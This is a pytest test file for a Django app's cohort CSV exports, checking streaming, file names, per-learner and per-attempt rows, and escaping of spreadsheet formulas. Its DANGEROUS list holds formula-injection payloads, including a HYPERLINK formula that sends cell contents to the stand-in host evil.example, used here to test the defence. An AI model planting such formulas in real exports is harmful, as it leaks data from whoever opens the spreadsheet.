"""The cohort's CSV exports: streamed, the right numbers, and formulas defused."""

import csv
import io

import pytest
from django.urls import reverse

from cohorts.csv_export import spreadsheet_safe, stream_csv
from tests.factories import (
    bulk_history,
    make_bank,
    make_cohort,
    make_exam,
    make_lead,
    make_user,
    take,
)

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+2",
    "-3+4",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
    # Leading whitespace before a sign: some spreadsheets skip it and run the formula.
    " =x",
    "   =1+1",
    "\t=1+1",
    "\r\n@SUM(A1:A9)",
    "\n-3+4",
    "\u00a0+1+2",
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_cells_that_start_like_a_formula_get_a_quote(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Ada", "", "a=b", "50 %", "2026-03-02 09:00", " x=1", "  ", "\nplain"]
)
def test_other_text_is_left_alone(value):
    assert spreadsheet_safe(value) == value


@pytest.mark.parametrize("value", [-5, 0, 72, None])
def test_numbers_are_left_alone(value):
    assert spreadsheet_safe(value) == value


def test_stream_csv_starts_with_a_byte_order_mark_and_quotes_formulas():
    text = "".join(stream_csv([["name", "score"], ["=1+1", 5]]))

    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text.lstrip("\ufeff")))) == [
        ["name", "score"],
        ["'=1+1", "5"],
    ]


# --- the downloads --------------------------------------------------------------------------


@pytest.fixture
def cohort(client, db):
    topics = make_bank(topics=2, per_topic=10)
    mock = make_exam(items=10, pass_mark=68)
    lead = make_lead()
    learners = [
        make_user("@evil", first_name=DANGEROUS[0], last_name=""),
        make_user("-minus", first_name="+plus", last_name="Name"),
        make_user("plain", first_name="Pat", last_name="Plain"),
    ]
    cohort = make_cohort(lead, name="Export group", members=learners)
    bulk_history(learners[:2], mock, topics, attempts=3, percent=lambda u, a: 40 + 20 * u)
    take(mock, learners[2], right=8)
    client.force_login(lead)
    return cohort


def download(client, name: str, cohort, **params) -> tuple[object, list[dict]]:
    response = client.get(reverse(name, args=[cohort.pk]), params)
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return response, list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


@pytest.mark.django_db
def test_the_learner_export_has_one_row_per_learner_and_topic(client, cohort):
    response, rows = download(client, "cohorts:export_csv", cohort)

    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="cohort-export-group-learners-by-topic.csv"'
    )
    assert len(rows) == 3 * 2
    plain = [row for row in rows if row["username"] == "plain"]
    assert [row["topic_answers"] for row in plain] == ["5", "5"]
    assert sum(int(row["topic_correct"]) for row in plain) == 8
    assert {row["latest_mock_percent"] for row in plain} == {"80"}
    assert {row["at_risk"] for row in plain} == {"no"}


@pytest.mark.django_db
def test_the_learner_export_escapes_formulas_in_names(client, cohort):
    _, rows = download(client, "cohorts:export_csv", cohort)

    usernames = {row["username"] for row in rows}
    names = {row["name"] for row in rows}
    assert usernames == {"'@evil", "'-minus", "plain"}
    assert "'" + DANGEROUS[0] in names
    assert "'+plus Name" in names
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())


@pytest.mark.django_db
def test_the_learner_export_gives_risk_and_reasons(client, cohort):
    _, rows = download(client, "cohorts:export_csv", cohort)

    evil = next(row for row in rows if row["username"] == "'@evil")
    assert evil["at_risk"] == "yes"
    assert "Latest mock 40 % (pass mark 68 %)" in evil["at_risk_reasons"]
    assert evil["attempts"] == "3"
    assert evil["best_mock_percent"] == "40"


@pytest.mark.django_db
def test_the_attempt_export_has_one_row_per_attempt(client, cohort):
    response, rows = download(client, "cohorts:attempts_csv", cohort)

    assert response.streaming
    assert response["Content-Disposition"] == (
        'attachment; filename="cohort-export-group-attempts.csv"'
    )
    assert len(rows) == 3 + 3 + 1
    plain = next(row for row in rows if row["username"] == "plain")
    assert plain["score_percent"] == "80"
    assert plain["passed"] == "yes"
    assert plain["correct"] == "8"
    assert plain["items"] == "10"
    assert plain["status"] == "Submitted"
    assert {row["name"] for row in rows} >= {"'" + DANGEROUS[0], "'+plus Name"}


@pytest.mark.django_db
def test_the_attempt_export_follows_the_date_range(client, cohort):
    _, rows = download(client, "cohorts:attempts_csv", cohort, **{"from": "2100-01-01"})

    assert rows == []


@pytest.mark.django_db
def test_an_in_progress_attempt_is_exported_without_a_score(client, cohort):
    from quizzes import services
    from quizzes.models import Exam

    learner = cohort.members.get(username="plain")
    services.start_attempt(user=learner, exam=Exam.objects.get())

    _, rows = download(client, "cohorts:attempts_csv", cohort)

    running = next(row for row in rows if row["status"] == "In progress")
    assert running["score_percent"] == running["submitted_at"] == running["minutes_used"] == ""
